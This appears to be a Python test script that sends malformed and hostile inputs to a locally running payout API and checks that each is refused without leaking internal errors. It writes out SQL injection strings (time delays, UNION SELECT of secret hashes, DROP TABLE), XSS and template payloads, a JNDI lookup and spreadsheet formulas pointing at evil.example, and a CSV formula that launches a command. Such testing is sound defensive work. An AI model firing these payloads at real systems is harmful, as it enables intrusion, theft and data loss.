#!/usr/bin/env python3
"""Input and injection: JSON's corners, SQL, markup, formulas, log lines, ids and cursors of others' making.

    tools/attack/input.py http://127.0.0.1:8080 --token "$TOKEN" --key "$KEY" --point "$POINT"
"""

import json
import time
import urllib.parse

from common import Target, Tries, alive, arguments, document

given = arguments(__doc__, "token", "key", "point")
target, tries = Target(given.url), Tries("input")
WALLET, V1 = "/v4/payout", "/v1/payout-gateway"
JSON_API = {"Content-Type": "application/vnd.api+json"}
INNER = ("src/", "diesel", "postgres", "panicked", "serde", "SQLSTATE", "relation \"", "syntax error", "RUST_BACKTRACE")


def refused(name, answer, allowed=range(400, 500)):
    status, headers, text = answer
    inner = [word for word in INNER if word in text]
    tries.check(name, status in allowed and not inner, f"{status} {inner} {text[:110]}")


status, made = target.json("POST", WALLET + "/card", {"cardNumber": "4111111111111111", "cardHolder": "ALICE EXAMPLE", "cardExpirationYear": "2035", "cardExpirationMonth": "12"}, given.token)
print("a card:", status, str(made)[:200])
data = target.json("GET", WALLET + "/data", token=given.token)[1]
card_id = data["cards"][0]["cardId"] if isinstance(data, dict) and data.get("cards") else made.get("cardId", 1)

# JSON's corners, for both readers.
offer = lambda amount: f'{{"amount": {amount}, "fromCurrency": "USDT", "toCurrency": "EUR", "cardId": {card_id}}}'
request = lambda amount, more="": (
    '{"data": {"type": "payout-request", "attributes": {"point_amount": %s, "point_id": "%s", "point_currency": "USD", '
    '"service": "test_usd", "fields": {"account": "x"}%s}}}' % (amount, given.point, more))
for name, text in [
    ("a member twice", '{"amount": 30, "amount": 31, "fromCurrency": "USDT", "toCurrency": "EUR", "cardId": 1}'),
    ("a member twice, once escaped", '{"amount": 30, "\\u0061mount": 31, "fromCurrency": "USDT", "toCurrency": "EUR", "cardId": 1}'),
    ("a member of another case", '{"Amount": 30, "fromCurrency": "USDT", "toCurrency": "EUR", "cardId": 1}'),
    ("__proto__", '{"__proto__": {"kyc": 9}, "amount": 30, "fromCurrency": "USDT", "toCurrency": "EUR", "cardId": 1}'),
    ("100 000 brackets", "[" * 60_000), ("100 000 objects", '{"a":' * 12_000),
    ("a BOM", "\ufeff" + offer("30")), ("two documents", offer("30") + offer("31")), ("a comment", "/* x */" + offer("30")),
    ("a comma too many", offer("30")[:-1] + ",}"), ("NaN", offer("NaN")), ("Infinity", offer("Infinity")), ("-0", offer("-0")), ("0", offer("0")),
    ("below zero", offer("-30")), ("1e400", offer("1e400")), ("1e-400", offer("1e-400")), ("hexadecimal", offer("0x1e")),
    ("a leading zero", offer("030")), ("a plus", offer('"+30"')), ("spaces", offer('" 30"')), ("digits of full width", offer('"３０"')),
    ("Arabic digits", offer('"٣٠"')), ("a comma", offer('"30,00"')), ("an underscore", offer('"3_0"')), ("19 decimals", offer("30.0000000000000000001")),
    ("40 digits", offer("9" * 40)), ("60 000 digits", offer("9" * 60_000)), ("a list", offer("[30]")), ("an object", offer('{"$gt": 0}')), ("true", offer("true")),
    ("NUL", offer('"30\\u0000"')), ("half a surrogate", offer('"\\ud800"')), ("an id with NUL", offer("30").replace('"USDT"', '"USDT\\u0000"')),
    ("UTF-16", offer("30").encode("utf-16")), ("broken UTF-8", offer("30").replace("USDT", "\udcff").encode("utf-8", "surrogateescape")),
    ("no JSON", "amount=30"), ("null", "null"), ("a list around it", "[" + offer("30") + "]"), ("nothing", ""),
]:
    refused(f"offer: {name}", target.ask("POST", WALLET + "/offer", text, given.token))
for name, text in [
    ("a member twice", request("1", ', "service": "test_usd"')), ("below zero", request("-1")), ("0", request("0")), ("1e400", request("1e400")),
    ("1e-9", request("1e-9")), ("60 000 digits", request("9" * 60_000)), ("a deep field", request("1", ', "meta": ' + '{"a":' * 5_000 + "1" + "}" * 5_000)),
    ("NUL in a field", request("1").replace('"x"', '"x\\u0000"')), ("a field that isn't there", request("1", ', "is_admin": true')),
    ("the other mode", request("1", ', "test_mode": false')), ("another partner's name", request("1", ', "partner_id": "house"')),
    ("another's point", request("1").replace(given.point, "pp_00000000000070008000000000000000")), ("SQL for a point", request("1").replace(given.point, "' OR 1=1 --")),
    ("an unknown currency", request("1").replace("USD", "XXX")), ("another type", request("1").replace("payout-request", "api-key")),
]:
    refused(f"request: {name}", target.ask("POST", V1 + "/payout-requests", text, given.key, JSON_API))
for name, headers in [
    ("text/plain", {"Content-Type": "text/plain"}), ("a form", {"Content-Type": "application/x-www-form-urlencoded"}),
    ("UTF-16 by its type", {"Content-Type": "application/json; charset=utf-16"}), ("gzip", {"Content-Type": "application/json", "Content-Encoding": "gzip"}),
    ("a version by another parameter", {"Content-Type": "application/json, text/plain"}),
]:
    refused(f"content type: {name}", target.ask("POST", WALLET + "/offer", offer("30"), given.token, headers))
refused("a body of 1 MB", target.ask("POST", WALLET + "/offer", '{"a": "' + "x" * 1_000_000 + '"}', given.token), {400, 413})

# SQL wherever a text goes into a question. One that sleeps would take its time.
SQL = ["' OR '1'='1", "1; SELECT pg_sleep(5) --", "') UNION SELECT secret_hash FROM api_key --", "\\'; DROP TABLE card; --", "%' AND 1=(SELECT 1 FROM pg_sleep(5)) AND '%'='"]
for sql in SQL:
    quoted = urllib.parse.quote(sql, safe="")
    for path in [
        f"{WALLET}/offer/{quoted}", f"{WALLET}/card/{quoted}/billing-address", f"{WALLET}/history?limit={quoted}", f"{WALLET}/history?cursor={quoted}",
    ]:
        method = "PUT" if "billing" in path else "GET"
        began = time.monotonic()
        refused(f"{method} {path[:60]}", target.ask(method, path, "{}" if method == "PUT" else None, given.token))
        tries.check("  and nothing slept", time.monotonic() - began < 3)
    for path in [
        f"{V1}/payout-requests?page[cursor]={quoted}", f"{V1}/payout-requests?sort={quoted}", f"{V1}/payout-requests?page[size]={quoted}",
        f"{V1}/payout-requests/{quoted}", f"/v1/api-keys/{quoted}", f"/v1/wallet/credits/{quoted}", f"/v1/events?filter[type]={quoted}",
        f"{V1}/payout-schemes?filter[code]={quoted}", f"/v1/customers?filter[reference_id]={quoted}",
    ]:
        began = time.monotonic()
        status, _, text = target.ask("GET", path, token=given.key)
        is_empty = status == 200 and json.loads(text)["data"] == []
        tries.check(f"GET {path[:70]}", (status in range(400, 500) or is_empty) and not any(word in text for word in INNER) and time.monotonic() - began < 3, f"{status} {text[:90]}")

# Cursors and ids of another's making.
for cursor in ["AAAA", "eyJhIjoxfQ", "////", "-" * 5_000, "MTIzNDU2Nzg5MDEyMzQ1Njc4OTA", "%00", "٣"]:
    refused(f"the cursor {cursor[:20]}", target.ask("GET", f"{V1}/payout-requests?page[cursor]={urllib.parse.quote(cursor)}", token=given.key))
for size in ["0", "-1", "1e3", "1000000", "99999999999999999999", "٣", "", "1;1"]:
    refused(f"a page of {size!r}", target.ask("GET", f"{V1}/payout-requests?page[size]={urllib.parse.quote(size)}", token=given.key))
for number in ["0", "-1", "9223372036854775808", "1.0", "1e3", "٣", "0x10", "1%00", "NaN", "9" * 400]:
    refused(f"the offer {number[:22]!r}", target.ask("GET", f"{WALLET}/offer/{urllib.parse.quote(number)}", token=given.token))
refused("a parameter twice", target.ask("GET", f"{V1}/payout-requests?page[size]=1&page[size]=2", token=given.key))
refused("the version of another form", target.ask("POST", f"{WALLET}/pay/1?version=1e0", "{}", given.token))

# What is kept and shown to people: markup stays text there (tools/attack/dashboard.py looks), and is told back as it was sent.
for text in ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "=HYPERLINK(\"http://evil.example\")", "\u202egnp.exe", "a\u0007b", "a\nWARN forged line"]:
    asked = document("payout-request", {"point_amount": 1, "point_id": given.point, "point_currency": "USD", "service": "test_usd", "fields": {"account": text}, "reference_id": f"attack {text}"[:60]})
    status, answer = target.json("POST", V1 + "/payout-requests", asked, given.key, JSON_API)
    tries.check(f"a reference of {text[:24]!r}", status in (201, 200, 409, 422), f"{status} {str(answer)[:100]}")

# Batches: lines of a file are data, and what comes back of them is no formula.
for name, body in [
    ("formulas", 'service,service_amount,fields.account\ntest_usd,1,"=cmd|\' /C calc\'!A0"\ntest_usd,1,"@SUM(1+1)*cmd|x"\n'),
    ("NUL", "service,service_amount,fields.account\ntest_usd,1,a\0b\n"), ("a quote that doesn't end", 'service,service_amount,fields.account\ntest_usd,1,"a\n'),
    ("a header twice", "service,service,service_amount\ntest_usd,test_usd,1\n"), ("100 000 columns", "a," * 30_000 + "\n"), ("below zero", "service,service_amount,fields.account\ntest_usd,-1,a\n"),
    ("a column of another's", "service,service_amount,fields.account,partner_id\ntest_usd,1,a,house\n"), ("UTF-16", "service,service_amount\n".encode("utf-16")),
]:
    path = f"{V1}/batches?point_id={given.point}&name={urllib.parse.quote('attack ' + name)}"
    status, _, text = target.ask("POST", path, body, given.key, {"Content-Type": "text/csv"})
    is_taken = status == 201 and name in ("formulas", "below zero")
    tries.check(f"a batch with {name}", (is_taken or status == 422) and not any(word in text for word in INNER), f"{status} {text[:110]}")
tries.check("it still answers", alive(target))
tries.finish()
